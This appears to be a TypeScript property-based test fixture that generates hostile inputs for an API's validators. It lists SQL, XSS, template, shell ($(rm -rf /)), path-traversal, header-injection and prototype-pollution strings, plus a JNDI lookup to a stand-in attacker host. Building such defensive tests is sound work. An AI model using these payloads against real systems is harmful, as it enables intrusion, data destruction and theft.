import fc from 'fast-check';

/**
 * Hostile values shared by both doors. Each family is either refused wherever it is put
 * ({@link ALWAYS_INVALID}), or refused only where the field is a code, date or identifier
 * ({@link INJECTIONS}: in free text they are ordinary, stored verbatim).
 */

/** SQL, script, template, shell, path and header injection strings: printable, plausible text. */
export const INJECTIONS: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE referrals; --",
  '1; SELECT pg_sleep(30); --',
  "Robert'); DELETE FROM audit_entries; --",
  '" OR ""="',
  '$1) OR (1=1',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '${jndi:ldap://attacker.invalid/a}',
  '$(rm -rf /)',
  '`id`',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%s%s%s%n',
  'a\r\nSet-Cookie: session=stolen',
  '{"$gt": ""}',
  '__proto__',
  'constructor',
];

/** Text a person could have typed, in the region's scripts, with tricky but legitimate Unicode. */
export const LEGITIMATE_ODD_TEXTS: readonly string[] = [
  'Nguye\u0302\u0303n Thi\u0323 Hoa', // decomposed: stored as NFC
  'ນາງ ຮວາ ງຸຍເອັນ',
  'สมชาย ใจดี',
  'សុខ សុភា',
  '王伟 (Wang Wei)',
  'Ｗａｎｇ　Ｗｅｉ', // full-width homoglyphs
  'O\u2019Brien-Smith',
  'Ali \u200F\u0639\u0644\u064A\u200F', // right-to-left mark around Arabic
  'family 👨‍👩‍👧 emoji',
];

/** Strings with characters no text field accepts. */
export const CONTROL_TEXTS: readonly string[] = [
  'Wang\u202EieW',
  '\u2066Wang\u2069',
  'bell\u0007',
  'esc\u001b[31mred',
  'next-line\u0085',
  'delete\u007f',
  'back\bspace',
];

/** Dates and date-times that look right and are not. */
export const BAD_DATES: readonly string[] = [
  '2026-02-30',
  '2026-02-29',
  '2025-13-01',
  '2026-00-10',
  '0000-00-00',
  '2026-4-1',
  '20260401',
  '2026-04-31',
  '2026-02-30T08:30:00+07:00',
  '2026-11-18T24:00:00Z',
  '2026-11-18T08:30:60+07:00',
  '2026-11-18T08:30:00',
  '2026-11-18 08:30:00+07:00',
  '+275760-09-13',
  '9999-99-99',
  'yesterday',
];

/** A long string: past every field's limit (the longest is 8,000 characters). */
export const hugeString = fc
  .integer({ min: 8_001, max: 60_000 })
  .chain((n) => fc.constantFrom('x', 'ສ', '😀', '\u0301').map((c) => c.repeat(n)));

/** A JSON value nested `depth` levels, over the parser's limit of 32. */
export const deepValue = fc
  .integer({ min: 33, max: 20_000 })
  .chain((depth) =>
    fc
      .constantFrom('[', '{"a":')
      .map((open) =>
        open === '['
          ? '['.repeat(depth) + ']'.repeat(depth)
          : `${open.repeat(depth)}1${'}'.repeat(depth)}`,
      ),
  );

/** Values of the wrong JSON type for a field whose example value is `example`. */
export function wrongTypeFor(example: unknown): fc.Arbitrary<unknown> {
  const options: fc.Arbitrary<unknown>[] = [];
  if (typeof example !== 'string')
    options.push(fc.string({ maxLength: 20 }).filter((s) => s.trim() !== ''));
  if (typeof example !== 'number')
    options.push(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })));
  if (typeof example !== 'boolean') options.push(fc.boolean());
  if (!Array.isArray(example)) options.push(fc.array(fc.integer(), { minLength: 1, maxLength: 3 }));
  if (typeof example !== 'object' || example === null || Array.isArray(example)) {
    options.push(fc.constant({ unexpected: true }));
  }
  return fc.oneof(...options);
}

/** Pieces of raw JSON text that the strict parser refuses wherever a value may stand. */
export const REFUSED_RAW_VALUES: readonly string[] = [
  '1e400',
  '-1E+999',
  '"\\u0000"',
  '"a\\ud800b"',
  '"\\udfff"',
  '{"__proto__": {"isAdmin": true}}',
  '{"constructor": {"prototype": {"isAdmin": true}}}',
  '{"prototype": 1}',
  '{"k": 1, "k": 2}',
  '{"k": 1, "\\u006b": 2}',
];

/** Bytes that are not UTF-8, to splice into a string value. */
export const BAD_UTF8: readonly Buffer[] = [
  Buffer.from([0xff]),
  Buffer.from([0xc3, 0x28]),
  Buffer.from([0xe2, 0x82]),
  Buffer.from([0xed, 0xa0, 0x80]), // an encoded surrogate (CESU-8)
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
  Buffer.from([0xc0, 0xaf]), // overlong '/'
];

/** Anything JSON can hold, hostile keys and strings included, to throw at a body. */
export const anyJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constantFrom<unknown>(null, true, false, 0, -1, 2 ** 53 + 1, 1e308, -0.0000001),
    fc.string({ unit: 'grapheme', maxLength: 40 }),
    fc.constantFrom(...INJECTIONS, ...CONTROL_TEXTS, ...BAD_DATES),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(
      fc.oneof(
        fc.string({ maxLength: 12 }),
        fc.constantFrom('reason', 'note', 'checkpoint', 'to', 'data'),
      ),
      tie('value'),
      { maxKeys: 4 },
    ),
  ),
})).value;
